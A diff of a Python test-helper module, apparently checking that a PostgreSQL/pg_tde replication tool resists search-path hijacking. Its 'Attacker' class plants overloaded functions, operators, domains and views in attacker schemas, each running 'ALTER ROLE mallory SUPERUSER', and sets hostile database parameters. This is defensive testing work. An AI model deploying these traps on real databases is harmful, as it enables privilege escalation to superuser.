@@ -1,103 +1,92 @@
-"""The attacker's kit: who may create in a database makes a trap of every name that the superuser's statements use there.
+"""The attacker's kit: whoever may create in a database makes a trap of everything that a superuser's statement could name there.
 
-An overload with exactly the types of each function and operator, in schemas that a careless search path would find first (or that
-come first in one that the owner has set); domains and views in place of types and catalogs. Each says in the server's log that it
-ran: on a standby too, and whatever becomes of the transaction.
+An overload of every function and operator with the types of each call, in the schemas that a careless search path looks into
+first; domains and views in place of types and catalogs. Each says in the server's log that it ran (on a standby too, and whatever
+becomes of the transaction), and tries to make the attacker a superuser.
 """
 
 import re
 from collections.abc import Iterable, Iterator
-from contextlib import contextmanager
-from dataclasses import dataclass
-from typing import Any, Self
+from typing import Any, LiteralString, Self
 
 import psycopg
 from psycopg import sql
 
-from tde_replication.hosts.superuser import Connection
-from tests.providers.servers import Node
-
-SAYS = "the trap ran"
-RAN = f"LOG:  {SAYS}"
+RAN = "LOG:  the trap ran: "
 """In the log; what was run to make a trap may be there too."""
-SYNTAX = {
-    *(
-        "array",
-        "any",
-        "all",
-        "as",
-        "and",
-        "coalesce",
-        "exists",
-        "extract",
-        "from",
-        "format",
-        "greatest",
-        "in",
-        "like",
-        "not",
-    ),
-    *("nullif", "on", "select", "trim", "values", "when", "with", "where", "row", "using", "cast"),
-}
-"""Words before a parenthesis that are PostgreSQL's grammar, and no function that somebody could make."""
-CONCRETE = {
-    "anyarray": "text[]", "anyelement": "text", "anynonarray": "text", '"any"': "text", "anycompatible": "text",
-    "anycompatiblearray": "text[]", "anycompatiblenonarray": "text",
-}  # fmt: skip
 OPTIONS = (
-    "-c search_path=pg_catalog -c local_preload_libraries= -c default_transaction_read_only=off -c statement_timeout=0 "
-    "-c role=none"
+    "-c search_path=pg_catalog -c local_preload_libraries= -c role=none -c default_transaction_read_only=off "
+    "-c statement_timeout=0 -c transaction_timeout=0 -c lock_timeout=0 -c idle_session_timeout=0 "
+    "-c max_parallel_workers_per_gather=0 -c exit_on_error=off"
 )
 """Against one's own traps and settings."""
-OPERATORS = re.compile(r"(?<![\w'])(->>|\|\||<=|>=|<>|!~|~|=|<|>|\+|-|\*|/)(?![\w']*\*/)")
-
-
-@dataclass(frozen=True)
-class Names:
-    """What statements name without a schema."""
-
-    functions: frozenset[str]
-    operators: frozenset[str]
-    types: frozenset[str]
-    relations: frozenset[str]
-
-
-def names_in(statements: Iterable[str]) -> Names:
-    text = "\n".join(re.sub(r"'(?:[^']|'')*'", "''", statement) for statement in statements)
-    functions = {name.lower() for name in re.findall(r"(?<![.\"\w])([a-zA-Z_][a-zA-Z0-9_]*)\(", text)}
-    functions |= set(re.findall(r"\.\"(pg_tde_\w+)\"\(", text))
-    return Names(
-        frozenset(functions - SYNTAX),
-        frozenset(OPERATORS.findall(text)) | {"=", "~~", "!~~"},  # IN, LIKE, NOT LIKE
-        frozenset(re.findall(r"::([a-z_]+)", text)),
-        frozenset(re.findall(r"(?:FROM|JOIN)\s+(pg_[a-z_]+)(?!\w|\()", text)),
-    )
-
-
-@contextmanager
-def recorded(monkeypatch: Any) -> Iterator[list[str]]:
-    """The statements that are run by connections of the project's own."""
-    statements: list[str] = []
-    run = Connection.execute
-
-    def execute(self: Connection, query: Any, *arguments: Any, **options: Any) -> Any:
-        if not isinstance(query, bytes):  # as tests have it
-            statements.append(query if isinstance(query, str) else query.as_string(None))
-        return run(self, query, *arguments, **options)
-
-    with monkeypatch.context() as patch:
-        patch.setattr(Connection, "execute", execute)
-        yield statements
+OF_OWNER = ("evil", "public")
+"""Schemas for a search path that the owner of a database sets, and for one that somebody else may set."""
+OF_GUEST = ("postgres", "public")
+"""In the default search path: that of the superuser's name comes first."""
+TYPES = ("text", "name", "oid", "integer", "bigint", "boolean", '"char"', "text[]", "pg_lsn")
+"""In place of an argument of any type, and on both sides of an operator, where one is a literal."""
+FUNCTIONS: LiteralString = (
+    "SELECT proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid), proretset FROM pg_proc AS p "
+    "WHERE prokind <> 'p' AND {} AND NOT EXISTS (SELECT FROM unnest(proargtypes::oid[] || prorettype) AS one "
+    "JOIN pg_type AS t ON t.oid = one WHERE typtype = 'p' AND typname !~ '^any' AND typname NOT IN ('record', 'void'))"
+)
+"""Without those that only C can have, and that no statement calls by name."""
+UNCALLED = {"void_send", "pg_event_trigger_ddl_commands"}
+"""The same."""
+OF_POSTGRESQL: LiteralString = "pronamespace = 'pg_catalog'::regnamespace"
+OF_PG_TDE: LiteralString = (
+    "EXISTS (SELECT FROM pg_depend JOIN pg_extension AS e ON refobjid = e.oid "
+    "WHERE objid = p.oid AND extname = 'pg_tde' AND deptype = 'e')"
+)
+OPERATORS: LiteralString = (
+    "SELECT oprname, format_type(oprleft, NULL), format_type(oprright, NULL), format_type(oprresult, NULL) FROM pg_operator "
+    "WHERE oprleft <> 0"
+)
+DATA_TYPES: LiteralString = "SELECT typname FROM pg_type WHERE typtype = 'b' AND typelem = 0"
+CATALOGS: LiteralString = "SELECT relname FROM pg_class WHERE relkind IN ('r', 'v') AND relname ~ '^pg_'"
+EACH: LiteralString = (
+    "SET check_function_bodies = off; DO $each$ DECLARE one text; BEGIN FOREACH one IN ARRAY {}::text[] LOOP BEGIN EXECUTE one; "
+    "EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $each$"
+)
+"""Run what can be run of many statements: not all that is PostgreSQL's can be imitated, and some is there already."""
+PARAMETERS: LiteralString = (
+    "SELECT name, vartype, boot_val, greatest(min_val::float8, 1), array_remove(enumvals, boot_val) FROM pg_settings "
+    "WHERE context = 'user' AND name NOT IN ('transaction_isolation', 'transaction_deferrable', 'vacuum_buffer_usage_limit') "
+    "AND coalesce(cardinality(enumvals), 2) > 1"
+)
+TEXTS = {
+    "local_preload_libraries": "nosuch",
+    "client_encoding": "LATIN1",
+    "createrole_self_grant": "set, inherit",
+    "datestyle": "SQL, DMY",
+    "default_tablespace": "pg_default",
+    "restrict_nonsystem_relation_kind": "view, foreign-table",
+    "timezone": "Asia/Kathmandu",
+}
+"""Parameters that can be set to any text."""
+SEARCH_PATH = 'evil, "$user", public, pg_catalog'
+HIDDEN = {"role": "mallory", "session_authorization": "mallory", "seed": "1"}
+"""Parameters that pg_settings does not show."""
+GRANTS = (
+    "CREATE TABLE evil.mine (a int)",
+    "GRANT SELECT, UPDATE (a) ON evil.mine TO replicator WITH GRANT OPTION",
+    "CREATE POLICY theirs ON evil.mine TO replicator USING (true)",
+    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO replicator",
+    "GRANT ALL ON SCHEMA evil TO replicator",
+    "GRANT ALL ON FUNCTION evil.sprung TO replicator",
+    "GRANT ALL ON DOMAIN evil.text TO replicator",
+    "SELECT lo_create(424242)",
+    "GRANT ALL ON LARGE OBJECT 424242 TO replicator",
+)
+"""What keeps PostgreSQL from dropping a role."""
 
 
 class Attacker:
-    """A role without any attribute, in one database of a server."""
+    """A role without any attribute, in one database of a server; `connection` is a superuser's."""
 
-    def __init__(self, node: Node, database: str) -> None:
-        self._connection = psycopg.connect(
-            host="/tmp", port=node.port, user="postgres", dbname=database, autocommit=True, options=OPTIONS
-        )
-        self.planted: dict[str, int] = {}
+    def __init__(self, connection: psycopg.Connection[Any]) -> None:
+        self._connection = connection
 
     def __enter__(self) -> Self:
         return self
@@ -119,91 +108,106 @@ class Attacker:
         finally:
             self.rows("RESET SESSION AUTHORIZATION")
 
-    def tries(self, *statements: sql.Composable) -> bool:
-        """One after the other, all or none."""
-        try:
-            with self._connection.transaction():
-                self.does(*statements)
-        except psycopg.Error:
-            return False
-        return True
+    def owns(self, database: str) -> None:
+        """What the owner of a database does to the superuser who comes into it."""
+        self.does("CREATE SCHEMA evil")
+        self.plants(*OF_OWNER)
+        self.bends(database)
 
-    def plants(self, schema: str, names: Names) -> None:
-        self._functions(schema, names.functions)
-        self._operators(schema, names.operators)
-        place = sql.Identifier(schema)
-        function = sql.SQL("CREATE FUNCTION {}.trapped(text) RETURNS boolean LANGUAGE plpgsql AS {}")
-        self.tries(function.format(place, _body("a domain or view", "RETURN true;")))
-        for name in names.types:
-            domain = sql.SQL("CREATE DOMAIN {}.{} AS pg_catalog.{} CHECK ({}.trapped(VALUE::pg_catalog.text))")
-            self._count(
-                name, self.tries(domain.format(place, sql.Identifier(name), sql.Identifier(_base(name)), place))
-            )
-        for name in names.relations:
-            view = sql.SQL("CREATE VIEW {}.{} AS SELECT * FROM pg_catalog.{} WHERE {}.trapped('')")
-            self._count(name, self.tries(view.format(place, *[sql.Identifier(name)] * 2, place)))
+    def visits(self) -> None:
+        """What somebody does who may just create things in the session's database."""
+        self.does("CREATE SCHEMA postgres")
+        self.plants(*OF_GUEST)
 
-    def _count(self, name: str, made: bool) -> None:  # noqa: FBT001
-        self.planted[name] = self.planted.get(name, 0) + made
+    def plants(self, *schemas: str) -> None:
+        """Traps of all that is PostgreSQL's."""
+        functions = self.rows(sql.SQL(FUNCTIONS).format(sql.SQL(OF_POSTGRESQL)))
+        operators, types, catalogs = map(self.rows, (OPERATORS, DATA_TYPES, CATALOGS))
+        for schema in schemas:
+            others = [*_operators(schema, operators), *_names(schema, types, catalogs)]
+            self._each(schema, functions, others)
 
-    def _functions(self, schema: str, names: Iterable[str]) -> None:
-        query = sql.SQL(
-            "SELECT proname, ARRAY(SELECT format_type(t, NULL) FROM unnest(proargtypes) WITH ORDINALITY AS a (t, n) ORDER BY n), "
-            "ARRAY(SELECT format('OUT %I %s', name, format_type(t, NULL)) "
-            "FROM unnest(proargnames, proallargtypes, proargmodes) WITH ORDINALITY AS a (name, t, mode, n) "
-            "WHERE mode IN ('o', 't') ORDER BY n), "
-            "format_type(prorettype, NULL), proretset FROM pg_proc WHERE proname = ANY({}) AND prokind <> 'p'"
+    def plants_pg_tde(self, *schemas: str) -> None:
+        """Traps of the extension's functions; where it has them itself, of what is called like them."""
+        functions = self.rows(sql.SQL(FUNCTIONS).format(sql.SQL(OF_PG_TDE)))
+        assert functions
+        for schema in schemas:
+            self._each(schema, functions)
+
+    def bends(self, database: str) -> None:
+        """Set everything that an owner may set for all sessions in his database, to what hinders most."""
+        values = dict(HIDDEN)
+        for name, kind, default, least, others in self.rows(PARAMETERS):
+            flipped = "off" if default == "on" else "on"
+            value = {"bool": flipped, "enum": others and others[0], "string": TEXTS.get(name.lower())}.get(kind, least)
+            values |= {name: value} if value is not None else {}
+        query = sql.SQL("ALTER DATABASE {} SET {} = {}")
+        self.does(query.format(sql.Identifier(database), sql.Identifier("search_path"), sql.SQL(SEARCH_PATH)))
+        for name, value in values.items():
+            self.does(query.format(sql.Identifier(database), sql.Identifier(name), sql.Literal(value)))
+
+    def _each(self, schema: str, functions: list[Any], statements: Iterable[str] = ()) -> None:
+        body = (
+            "BEGIN RAISE LOG 'the trap ran: % as %', what, current_user; ALTER ROLE mallory SUPERUSER; RETURN true; "
+            "EXCEPTION WHEN OTHERS THEN RETURN true; END"
         )
-        for name, types, outputs, result, returns_set in self.rows(query.format(sql.Literal(sorted(names)))):
-            self._count(name, self._plant(schema, name, types, outputs, result, returns_set=returns_set))
-            for other in (
-                "varchar",
-                "name",
-            ):  # where the very same is there already: what an unknown literal might prefer
-                others = [other if t == "text" else t for t in types]
-                self._plant(schema, name, others, outputs, result, returns_set=returns_set)
-
-    def _plant(
-        self, schema: str, name: str, types: list[str], outputs: list[str], result: str, *, returns_set: bool
-    ) -> bool:
-        arguments = ", ".join([*(CONCRETE.get(one, one) for one in types), *outputs])
-        kind = CONCRETE.get(result, result)
-        ends = "RETURN;" if returns_set or outputs or kind == "void" else "RETURN NULL;"
-        return self.tries(
-            sql.SQL("CREATE FUNCTION {}({}) RETURNS {} LANGUAGE plpgsql AS {}").format(
-                sql.Identifier(schema, name),
-                sql.SQL(arguments),
-                sql.SQL(("SETOF " if returns_set else "") + kind),
-                _body(name, ends),
-            )
-        )
-
-    def _operators(self, schema: str, names: Iterable[str]) -> None:
-        query = sql.SQL(
-            "SELECT oprname, format_type(oprleft, NULL), format_type(oprright, NULL), format_type(oprresult, NULL) "
-            "FROM pg_operator WHERE oprname = ANY({}) AND oprleft <> 0 AND oprnamespace = 'pg_catalog'::regnamespace"
-        )
-        for number, (name, *types) in enumerate(self.rows(query.format(sql.Literal(sorted(names))))):
-            left, right, result = (sql.SQL(CONCRETE.get(one, one)) for one in types)
-            function = sql.Identifier(schema, f"trap_{number}")
-            made = self.tries(
-                sql.SQL("CREATE FUNCTION {}({}, {}) RETURNS {} LANGUAGE plpgsql AS {}").format(
-                    function, left, right, result, _body(name, "RETURN NULL;")
-                ),
-                sql.SQL("CREATE OPERATOR {}.{} (FUNCTION = {}, LEFTARG = {}, RIGHTARG = {})").format(
-                    sql.Identifier(schema),
-                    sql.SQL(name),
-                    function,
-                    left,
-                    right,
-                ),
-            )
-            self._count(name, made)
+        sprung = _function(schema, "sprung", "what pg_catalog.text", "pg_catalog.bool", body)
+        self.does(sql.SQL(EACH).format(sql.Literal([sprung, *_functions(schema, functions), *statements])))
+        query = sql.SQL("SELECT proname FROM pg_proc WHERE pronamespace = {}::regnamespace")
+        made = {name for (name,) in self.rows(query.format(sql.Literal(schema)))}
+        assert {name for name, *_ in functions} - made <= UNCALLED, "no trap was made of these"
 
 
-def _body(name: str, ends: str) -> sql.Literal:
-    return sql.Literal(f"BEGIN RAISE LOG '{SAYS}: % as %', {sql.Literal(name).as_string()}, current_user; {ends} END")
+def _function(schema: str, name: str, arguments: str, result: str, body: str) -> str:
+    head = f"CREATE FUNCTION {_quoted(schema)}.{_quoted(name)}({arguments}) RETURNS {result}"
+    return f"{head} LANGUAGE plpgsql AS $body${body}$body$"
 
 
-def _base(name: str) -> str:
-    return {"boolean": "bool", "bigint": "int8"}.get(name, name)
+def _functions(schema: str, rows: Iterable[tuple[str, str, str, bool]]) -> Iterator[str]:
+    for name, arguments, result, returns_set in rows:
+        for made, gives in {*_variants(arguments, result)}:
+            nothing = returns_set or re.search(r"\bOUT\b", made) or gives == "void"
+            yield _function(schema, name, made, gives, _trap(schema, name, "" if nothing else "NULL"))
+
+
+def _variants(arguments: str, result: str) -> Iterator[tuple[str, str]]:
+    """What calls of a function look like: of a variable number of arguments, of any type, with literals of unknown type."""
+    given = [re.sub(r"VARIADIC [^,]*", ", ".join(["text"] * number), arguments) for number in range(1, 6)]
+    for one in {re.sub(r",? ?ORDER BY", ",", made).lstrip(", ") for made in given}:
+        yield one, result
+        for other in TYPES:
+            yield _of(other, one), _of(other, result)
+        for other in ("varchar", "name"):
+            yield re.sub(r"\btext\b", other, one), result
+
+
+def _of(other: str, text: str) -> str:
+    """With `other` for any type."""
+    text = re.sub(r"\bany(compatible)?array\b", f"{other}[]".replace("[][]", "[]"), text)
+    return re.sub(r'"any"|\bany(compatible|element|nonarray|compatiblenonarray)\b', other, text)
+
+
+def _operators(schema: str, rows: Iterable[tuple[str, str, str, str]]) -> Iterator[str]:
+    known = [(name, _of("text", left), _of("text", right), _of("text", result)) for name, left, right, result in rows]
+    alike = {(name, one, one, "boolean") for name, *_ in known for one in TYPES}
+    for number, (name, left, right, result) in enumerate([*known, *alike]):
+        yield _function(schema, f"trap_{number}", f"{left}, {right}", result, _trap(schema, name, "NULL"))
+        sides = f"LEFTARG = {left}, RIGHTARG = {right}"
+        yield f"CREATE OPERATOR {_quoted(schema)}.{name} (FUNCTION = {_quoted(schema)}.trap_{number}, {sides})"
+
+
+def _names(schema: str, types: Iterable[tuple[str]], catalogs: Iterable[tuple[str]]) -> Iterator[str]:
+    sprung = f"{_quoted(schema)}.sprung"
+    for (name,) in types:
+        check = f"CHECK ({sprung}(VALUE::pg_catalog.text))"
+        yield f"CREATE DOMAIN {_quoted(schema)}.{_quoted(name)} AS pg_catalog.{_quoted(name)} {check}"
+    for (name,) in catalogs:
+        yield f"CREATE VIEW {_quoted(schema)}.{name} AS SELECT * FROM pg_catalog.{name} WHERE {sprung}('a catalog')"
+
+
+def _trap(schema: str, name: str, returns: str) -> str:
+    return f"BEGIN PERFORM {_quoted(schema)}.sprung('{name}'); RETURN {returns}; END"
+
+
+def _quoted(name: str) -> str:
+    return sql.Identifier(name).as_string()
